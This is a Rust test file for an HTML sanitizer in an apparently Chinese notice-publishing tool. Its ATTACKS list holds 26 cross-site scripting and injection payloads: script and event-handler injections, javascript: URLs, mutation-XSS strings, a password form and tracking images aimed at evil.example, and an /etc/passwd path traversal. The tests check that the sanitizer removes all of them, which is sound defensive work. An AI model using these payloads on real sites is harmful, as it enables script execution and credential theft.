//! What a body may hold, and what becomes of the rest.

use proptest::prelude::*;

use super::*;

const MEDIUM: &str = "/h/hope/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.jpg";

/// What has been tried on editors of other systems. Whatever is left must neither run nor load nor leave its place.
pub(crate) const ATTACKS: [&str; 26] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"color:red;background-image:url('//evil.example/a')\">x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "<div class=ht-top id=content>x</div>",
    "<img src=\"https://evil.example/track.gif\">",
    "<img src=\"/h/hope/media/../../../etc/passwd\">",
    "<img srcset=\"//evil.example/a 1x\" src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<p style=\"font-size:1px;text-indent:-9999px\">x</p>",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
];

#[test]
fn nothing_that_was_tried_on_others_gets_through() {
    for attack in ATTACKS {
        let clean = sanitize(attack);
        let lower = clean.to_ascii_lowercase();
        for piece in pieces(&clean) {
            let Piece::Start { name, attributes } = &piece else { continue };
            assert!(TAGS.contains(&name.as_str()), "<{name}> is left of {attack}");
            for (attribute, value) in attributes {
                let is_ours = !attribute.starts_with("on")
                    && !["class", "id", "srcset", "action"].contains(&attribute.as_str());
                assert!(is_ours, "{attribute} is left of {attack}: {clean}");
                assert!(!value.contains("evil.example") && !value.contains("script:"), "{attack}: {clean}");
            }
        }
        for word in ["url(", "position", "expression", "-9999"] {
            assert!(!lower.contains(word), "{attack}: {clean}");
        }
    }
}

#[test]
fn what_an_office_writes_stays() {
    let html = format!(
        "<h2 style=\"text-align: center\">停水通知</h2><p style=\"color: rgb(192, 0, 0); font-size: 16pt\"><strong>请</strong>储水</p>\
         <table width=\"100%\"><tbody><tr><td colspan=\"2\" style=\"background-color: #ffff00; width: 120px\">一</td></tr></tbody></table>\
         <ul><li>甲</li></ul><p><img src=\"{MEDIUM}\" alt=\"水表\"></p><blockquote>引</blockquote>\
         <p><a href=\"tel:02155550101\" rel=\"noopener noreferrer\">拨打</a></p>"
    );
    let clean = sanitize(&html);
    for part in [
        "text-align: center",
        "color: rgb(192, 0, 0); font-size: 16pt",
        "colspan=\"2\"",
        "background-color: #ffff00; width: 120px",
        MEDIUM,
        "alt=\"水表\"",
        "href=\"tel:02155550101\"",
        "<blockquote>",
    ] {
        assert!(clean.contains(part), "{part} is gone: {clean}");
    }
    assert_eq!(sanitize(&clean), clean);
}

#[test]
fn a_picture_from_elsewhere_leaves_a_mark() {
    let clean =
        sanitize("<p>看<img src=\"file:///C:/a.png\" alt=\"水表\"><img src=\"https://mmbiz.qpic.cn/a\"></p>");
    assert!(
        clean.contains("【缺图：水表】") && clean.contains("【缺图】") && !clean.contains("<img"),
        "{clean}"
    );
    assert_eq!(sanitize(&clean), clean);
}

#[test]
fn a_body_is_shown_as_plain_text() {
    let html = "<h2>停水</h2><p>今天 <b>9 时</b><br>起</p><ol start=\"3\"><li>甲</li><li>乙</li></ol><ul><li><p>丙</p></li></ul>\
                <table><tr><th>楼</th><th>时</th></tr><tr><td>1</td><td>9:00</td></tr></table><p>&lt;b&gt;</p>";
    assert_eq!(plain_text(html), "停水\n今天 9 时\n起\n3. 甲\n4. 乙\n· 丙\n楼\t时\n1\t9:00\n<b>");
    assert_eq!(excerpt(html, 6), "停水 今天…");
}

#[test]
fn a_body_for_wechat_has_its_looks_in_the_tags() {
    let html = format!(
        "<p style=\"color: red\">a</p><p><a href=\"https://a.example/\">外</a></p><table><tr><td>1</td></tr></table><img src=\"{MEDIUM}\">"
    );
    let shown = for_wechat(&html, |source| format!("https://wx.example.cn{source}"));
    assert!(shown.contains("color: #333333; color: red") && shown.contains("border: 1px solid"), "{shown}");
    assert!(shown.contains(&format!("src=\"https://wx.example.cn{MEDIUM}\"")), "{shown}");
    assert!(!shown.contains("<a") && shown.contains("外") && shown.contains("</table></section>"), "{shown}");
}

#[test]
fn a_style_keeps_what_is_moderate() {
    assert_eq!(
        styles::restrained("COLOR: Red !important; font-size:1px; mso-x: y"),
        Some("color: Red".into())
    );
    assert_eq!(
        styles::restrained("background: yellow; font-size: 120px; line-height: 0"),
        Some("background-color: yellow".into())
    );
    assert_eq!(styles::restrained("top: 0"), None);
    assert_eq!(style_value("color: red; background-color: #fff", "background-color"), Some("#fff".into()));
}

proptest! {
    #[test]
    fn doing_it_twice_changes_nothing(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("<p>"), Just("</p>"), Just("<table>"), Just("<td style=color:red>"), Just("</table>"), Just("<img src=a alt=b>"),
                Just("<a href=/h/a>"), Just("</a>"), Just("<b>"), Just("<svg>"), Just("&lt;"), Just("\""), Just("字"), Just("<li>"),
                Just("<pre>"), Just("\n"), Just(" "), Just("&nbsp;"), Just("<h2>"), Just("<!--"), Just("-->"), Just("<math>"),
            ],
            0..24,
        )
    ) {
        let once = sanitize(&parts.concat());
        prop_assert_eq!(sanitize(&once), once);
    }
}
